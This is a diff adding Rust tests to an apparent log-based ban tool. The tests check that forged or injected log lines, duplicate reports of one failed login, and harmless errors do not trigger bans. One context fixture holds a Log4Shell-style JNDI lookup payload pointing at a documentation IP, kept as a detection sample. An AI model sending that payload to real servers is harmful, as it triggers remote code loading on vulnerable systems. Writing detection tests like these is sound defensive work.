@@ -214,3 +214,101 @@ fn who_asks_for_three_names_and_is_gone_is_a_scanner() {
     );
     web(&[r#"- "GET / HTTP/1.1" 200 9 "-" "${jndi:ldap://203.0.113.9/a}""#; 3], &["http-exploit []"]);
 }
+
+/// What a client of a program can have it write by a line break in a name, and the attempts at ssh that are then counted.
+#[test]
+fn a_line_that_a_client_wrote_bans_nobody_and_protects_nobody() {
+    for (program, line) in [
+        ("gitea", "Failed authentication attempt for alice from 192.0.2.1"),
+        ("vaultwarden", "Invalid admin token. IP: 192.0.2.1"),
+        (
+            "uptime-kuma",
+            "2026-11-28T00:00:00Z [AUTH] WARN: Incorrect username or password for user a. IP=192.0.2.1",
+        ),
+        ("uptime-kuma", "2026-11-28T00:00:00Z [AUTH] INFO: Successfully logged in user a. IP=192.0.2.1"),
+        ("jellyfin", "[00:00:00] [INF] Authentication request for x has been denied (IP: 192.0.2.1)."),
+        ("paperless", "Login failed for user `a` from IP `192.0.2.1`."),
+        (
+            "odoo",
+            "2026-11-28 00:00:00,000 1 INFO odoo odoo.http: Login failed for db:odoo login:a from 192.0.2.1",
+        ),
+        (
+            "odoo",
+            "2026-11-28 00:00:00,000 1 INFO odoo odoo.http: Login successful for db:odoo login:a from 192.0.2.1",
+        ),
+        ("sonarr", "[Warn] Auth: Auth-Failure ip 192.0.2.1 username 'a'"),
+        (
+            "murmurd",
+            "<W>2026-11-28 00:00:00.000 1 => <4:a(-1)> Rejected connection from 192.0.2.1:1: Invalid server password",
+        ),
+        (
+            "guacamole",
+            "00:00:00.000 [x] WARN  o.a.g.A - Authentication attempt from 192.0.2.1 for user \"a\" failed.",
+        ),
+        (
+            "apache2",
+            "192.0.2.1 - x [28/Nov/2026:00:00:00 +0000] \"GET /index.php HTTP/1.1\" 200 153 \"-\" \"curl\"",
+        ),
+        (
+            "nginx",
+            "192.0.2.1 - x [28/Nov/2026:00:00:00 +0000] \"DELETE /api/1 HTTP/1.1\" 204 0 \"-\" \"curl\"",
+        ),
+        ("vsftpd", "[ftp] OK LOGIN: Client \"192.0.2.1\""),
+    ] {
+        check(program, &[line], 60, 20 * 60, &[]);
+        let attempt =
+            "2026-11-28T00:01:00Z host sshd[9]: Failed password for root from 192.0.2.1 port 4002 ssh2\n";
+        let log = format!("2026-11-28T00:00:00Z host {program}[7]: {line}\n{}", attempt.repeat(8));
+        assert_eq!(bans(&log), ["sshd []"], "{line}");
+    }
+}
+
+/// Three wrong passwords are no ban, however many lines report each.
+#[test]
+fn an_attempt_counts_once_whatever_reports_it() {
+    let check = |program: &str, lines: &[&str]| check(program, lines, 20, 60, &[]);
+    let pam = |module: &str, service: &str| {
+        format!(
+            "{module}({service}:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser= rhost=192.0.2.1 user=alice"
+        )
+    };
+    for (program, service) in [("vsftpd", "vsftpd"), ("cockpit-session", "cockpit"), ("squid", "squid")] {
+        check(program, &[&pam("pam_unix", service), &pam("pam_sss", service)]);
+    }
+    check(
+        "xrdp-sesman",
+        &["[INFO ] AUTHFAIL: user=alice ip=192.0.2.1 time=1795412738", &pam("pam_unix", "xrdp-sesman")],
+    );
+    check("ftpd", &["FTP LOGIN FAILED FROM 192.0.2.1", "FTP LOGIN FAILED FROM 192.0.2.1, alice"]);
+    check(
+        "nextcloud",
+        &[
+            r#"{"level":2,"remoteAddr":"192.0.2.1","message":"Login failed: alice (Remote IP: 192.0.2.1)"}"#,
+            r#"{"level":1,"remoteAddr":"192.0.2.1","message":"Bruteforce attempt from \"192.0.2.1\" detected for action \"login\"."}"#,
+        ],
+    );
+    check(
+        "grafana",
+        &[
+            r#"{"error":"invalid username or password","msg":"Invalid username or password","remote_addr":"192.0.2.1","uname":""}"#,
+            r#"{"msg":"Request Completed","method":"POST","path":"/login","status":401,"remote_addr":"192.0.2.1","uname":""}"#,
+        ],
+    );
+}
+
+#[test]
+fn who_did_nothing_but_meet_an_old_token_a_notice_or_a_second_module_is_not_banned() {
+    let success = "pam_sss(vsftpd:auth): authentication success; logname= uid=0 euid=0 tty=ftp ruser=alice rhost=192.0.2.1 user=alice";
+    let unix = "pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=alice rhost=192.0.2.1  user=alice";
+    check("vsftpd", &[unix, success], 10, 300, &[]);
+    let token = r#"{"msg":"handled request","request":{"client_ip":"192.0.2.1","method":"GET","uri":"/api/items/0","headers":{"Authorization":["REDACTED"],"Referer":["https://app.example/"]}},"status":401,"resp_headers":{}}"#;
+    check("caddy", &[token], 10, 300, &[]);
+    let notice = "[proxy_fcgi:error] [pid 8:tid 1] [client 192.0.2.1:23006] AH01071: Got error 'PHP message: PHP Deprecated:  x', referer: https://www.example/";
+    check("apache2", &[notice], 1, 100, &[]);
+    let picture = "[error] [client 192.0.2.1] File does not exist: /var/www/1.png, referer: http://www.example/gallery.html";
+    check("apache2", &[picture], 1, 100, &[]);
+    let tablet = "2026-11-28 00:00:00.000 WARNING (MainThread) [homeassistant.components.http.ban] Login attempt or request with invalid authentication from tablet.lan (192.0.2.1). Requested URL: '/api/websocket'. (x)";
+    check("home-assistant", &[tablet], 10, 300, &[]);
+    let expired = "192.0.2.1:40000 VERIFY ERROR: depth=0, error=certificate has expired: CN=alice, serial=1";
+    check("openvpn", &[expired], 5, 300, &[]);
+}
